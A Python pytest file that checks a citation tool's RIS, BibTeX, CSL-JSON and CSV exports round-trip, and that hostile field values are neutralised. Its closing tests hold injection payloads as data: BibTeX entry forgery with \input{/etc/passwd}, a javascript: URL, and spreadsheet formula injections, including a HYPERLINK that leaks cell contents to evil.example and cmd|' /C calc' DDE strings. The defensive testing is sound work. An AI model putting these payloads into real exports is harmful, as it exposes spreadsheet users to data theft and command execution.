"""Exports re-import with nothing lost: RIS via rispy, BibTeX/BibLaTeX via bibtexparser 2, CSV, JSON."""

from __future__ import annotations

import csv
import io
import json

import bibtexparser
import pytest
import rispy
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors, SplitNameParts

from podium.export import CSV_COLUMNS, export, export_filename
from podium.models import CiteRecord, PodiumError

QUOTE = CiteRecord(
    id="q1",
    title="Energy & Power: Who Pays? 50% More",
    url="https://forum.example/events/energy-power/",
    organisation="Smith & Jones Institute",
    genre="Round table",
    place="Riga, Latvia",
    event_date="2023-03-14",
    accessed="2024-01-02",
    speaker="Hana Müller",
    role="Researcher, Institute for Ocean Law",
    text="Without a European underwriter, a shipowner is sailing “blind”,",
)
PARTICLE = CiteRecord(**{**QUOTE.__dict__, "id": "q2", "speaker": "Rafael de la Cruz"})
PAGE = CiteRecord(
    id="e1",
    title="Cyber Norms_for #Small $tates",
    url="https://forum.example/e1",
    organisation="Smith & Jones Institute",
    site_name="Smith & Jones Institute",
    event_date="2021-05",
    accessed="2024-01-02",
)


def text(fmt: str, records) -> str:
    return "".join(export(records, fmt))


def bib_entries(data: str):
    layers = [SeparateCoAuthors(), SplitNameParts(), LatexDecodingMiddleware()]
    library = bibtexparser.parse_string(data, append_middleware=layers)
    assert not library.failed_blocks
    return {e.key: e for e in library.entries}


def test_ris_round_trips_through_rispy():
    records = rispy.loads(text("ris", [QUOTE, PAGE]))
    quote, page = records
    assert quote["type_of_reference"] == "SLIDE"
    assert quote["authors"] == ["Müller, Hana"]
    assert quote["title"] == QUOTE.title
    assert quote["secondary_title"] == "Smith & Jones Institute"
    assert quote["place_published"] == "Riga, Latvia"
    assert quote["date"] == "2023/03/14/" and quote["year"] == "2023"
    assert quote["urls"] == [QUOTE.url]
    assert QUOTE.text in quote["notes"]
    assert page["type_of_reference"] == "ELEC"
    assert page["authors"] == ["Smith & Jones Institute"]  # one author, never split


def test_ris_is_one_tag_per_line_and_closes_every_record():
    data = text("ris", [QUOTE, PAGE])
    assert data.count("ER  - ") == 2
    assert all(line[:2].isalnum() and line[2:6] == "  - " for line in data.splitlines() if line)


@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
def test_bibtex_round_trips_through_bibtexparser(fmt):
    entries = bib_entries(text(fmt, [QUOTE, PARTICLE, PAGE]))
    quote, page = entries["q1"], entries["e1"]
    assert quote.entry_type == ("misc" if fmt == "bibtex" else "unpublished")
    assert quote["title"].strip("{}") == QUOTE.title
    name = quote["author"][0]
    assert (name.first, name.last) == (["Hana"], ["Müller"])
    particle = entries["q2"]["author"][0]
    assert particle.von == ["de", "la"] and particle.last == ["Cruz"]
    organisation = page["author"]
    assert len(organisation) == 1  # " & " and " and " never split an organisation
    # bibtexparser leaves name parts LaTeX-encoded; the organisation is one braced last name
    assert organisation[0].last == ["{Smith \\& Jones Institute}"] and not organisation[0].first
    assert page["title"].strip("{}") == PAGE.title
    if fmt == "bibtex":
        assert quote["howpublished"] == "Round table, Smith & Jones Institute, Riga, Latvia"
        assert quote["month"] == "mar" and quote["year"] == "2023"
    else:
        assert quote["eventtitle"] == "Smith & Jones Institute" and quote["date"] == "2023-03-14"
        assert page.entry_type == "online"


def test_csl_json_is_json_with_one_item_per_record():
    items = json.loads(text("csl-json", [QUOTE, PAGE]))
    assert [i["type"] for i in items] == ["speech", "webpage"]
    assert items[0]["author"] == [{"family": "Müller", "given": "Hana"}]


def test_csl_json_exports_the_item_podium_renders():
    """A web page by its organisation keeps its site as container-title (every style but APA
    prints it); an APA export is APA's item, which drops the site when it is the author."""
    from podium import cite

    [page] = json.loads(text("csl-json", [PAGE]))
    assert page["container-title"] == "Smith & Jones Institute"
    assert page == cite.csl_item(PAGE, "chicago-author-date")
    [apa] = json.loads("".join(export([PAGE], "csl-json", "apa")))
    assert apa == cite.csl_item(PAGE, "apa") and "container-title" not in apa
    [mla] = json.loads("".join(export([QUOTE], "csl-json", "mla")))
    assert mla["event-date"] == mla["issued"]  # MLA's own item, as rendered


def test_csv_opens_in_a_spreadsheet_with_kind_ap_line_and_links():
    quote = CiteRecord(**{**QUOTE.__dict__, "kind": "quote"})
    data = "".join(export([quote, PAGE], "csv", base_url="https://podium.example"))
    assert data.startswith("\ufeff")  # Excel reads UTF-8 only after a byte-order mark
    rows = list(csv.DictReader(io.StringIO(data.removeprefix("\ufeff"))))
    assert {"kind", "ap_line", "permalink", "deep_link"} <= set(rows[0])
    assert rows[0]["kind"] == "quote"
    assert rows[0]["ap_line"].startswith("“Without a European underwriter, a shipowner is sailing")
    assert rows[0]["permalink"] == "https://podium.example/p/q1"
    assert (rows[1]["kind"], rows[1]["ap_line"], rows[1]["permalink"]) == (
        "page", "", "https://podium.example/e/e1",
    )  # fmt: skip
    reported = CiteRecord(**{**QUOTE.__dict__, "kind": "sentence"})
    [row] = csv.DictReader(io.StringIO("".join(export([reported], "csv")).removeprefix("\ufeff")))
    assert row["kind"] == "reported" and row["permalink"] == "/p/q1"


def test_export_file_names_say_what_they_hold():
    assert export_filename("ris", "Sanctions", "2024-05-03") == "podium-sanctions-2024-05-03.ris"
    assert export_filename("csv", "“Who pays?” Müller", "2024-05-03") == (
        "podium-who-pays-muller-2024-05-03.csv"
    )
    assert export_filename("bibtex", "../../", "2024-05-03") == "podium-export-2024-05-03.bib"


def test_csv_round_trips_with_citations():
    data = text("csv", [QUOTE, PAGE]).removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert list(rows[0]) == CSV_COLUMNS
    assert rows[0]["text"] == QUOTE.text and rows[0]["speaker"] == "Hana Müller"
    assert rows[0]["organisation"] == "Smith & Jones Institute"
    assert rows[0]["deep_link"].startswith(QUOTE.url + "#:~:text=Without")
    assert rows[0]["citation"].startswith("Müller, H. (2023, March 14).")
    assert rows[1]["speaker"] == ""


def test_unknown_format_is_a_plain_error():
    with pytest.raises(PodiumError):
        export([QUOTE], "docx")


FORGED_URL = "https://forum.example/e}, note = {\\input{/etc/hostname}} @misc{forged, title = {x}"
HOSTILE = CiteRecord(
    **{
        **QUOTE.__dict__,
        "id": "h1",
        "url": FORGED_URL,
        "title": "Braces } { and \\input{/etc/passwd}\n@misc{forged2, title={y}}",
        "text": "A quote }\n\n@misc{forged3,\n note = {z}} \\end",
        "organisation": "Org}, author = {Someone Else",
    }
)
SCRIPTED = CiteRecord(**{**PAGE.__dict__, "id": "h2", "url": "javascript:alert(1)"})
BROKEN = CiteRecord(**{**HOSTILE.__dict__, "id": "h3", "url": FORGED_URL.replace(" @", "\n@")})


@pytest.mark.parametrize("fmt", ["bibtex", "biblatex"])
def test_hostile_values_cannot_forge_a_bibtex_entry(fmt):
    data = text(fmt, [HOSTILE, SCRIPTED, BROKEN])
    entries = bib_entries(data)
    assert set(entries) == {"h1", "h2", "h3"}  # no forged entry, nothing lost
    hostile = entries["h1"]
    # url is a verbatim field (biblatex): read as written, no LaTeX decoding of its "%"
    url = bibtexparser.parse_string(data).entries[0]["url"]
    assert url.startswith("https://forum.example/e") and not set(url) & set("{}\\ \n")
    assert "%7D" in url and "%5C" in url and "%20" in url  # percent-encoded
    assert "input" in hostile["title"] and "forged2" in hostile["title"]  # kept, as text
    assert "url" not in entries["h2"].fields_dict  # javascript: is no URL
    assert "url" not in entries["h3"].fields_dict  # nor is anything with a line break
    for line in data.splitlines():  # every field on one line
        assert not line.strip() or line.startswith(("@", "  ", "}")), line


def test_csv_cells_never_start_a_formula():
    starts = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
              "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR", "＝1+1", "＋1", "－1", "＠SUM(1)"]  # fmt: skip
    records = [
        CiteRecord(**{**QUOTE.__dict__, "id": f"f{i}", "text": s, "title": s, "speaker": s[:5] + " Ann",
                      "role": s, "organisation": s, "url": "https://forum.example/" + s})
        for i, s in enumerate(starts)
    ]  # fmt: skip
    rows = list(csv.reader(io.StringIO(text("csv", records))))[1:]
    cells = [cell for row in rows for cell in row if cell]
    bad = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert len(rows) == len(starts) and not [c for c in cells if c.startswith(bad)]
    assert rows[0][0] == "'" + starts[0]  # the text is all there, shown as text


def test_ris_and_csl_json_drop_a_url_that_is_not_http():
    assert "javascript:" not in text("ris", [SCRIPTED])
    assert "URL" not in json.loads(text("csl-json", [SCRIPTED]))[0]
